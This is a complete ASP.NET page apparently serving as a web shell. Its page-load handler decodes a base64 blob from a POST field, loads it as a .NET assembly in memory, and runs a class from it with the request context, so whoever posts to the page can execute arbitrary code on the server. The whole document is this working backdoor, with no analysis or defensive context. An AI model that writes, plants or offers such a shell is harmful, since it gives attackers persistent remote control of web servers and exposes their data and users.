<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    byte[] blob = Convert.FromBase64String(Request.Form["d"]);
    Assembly.Load(blob).CreateInstance("Worker").Equals(Context);
}
</script>
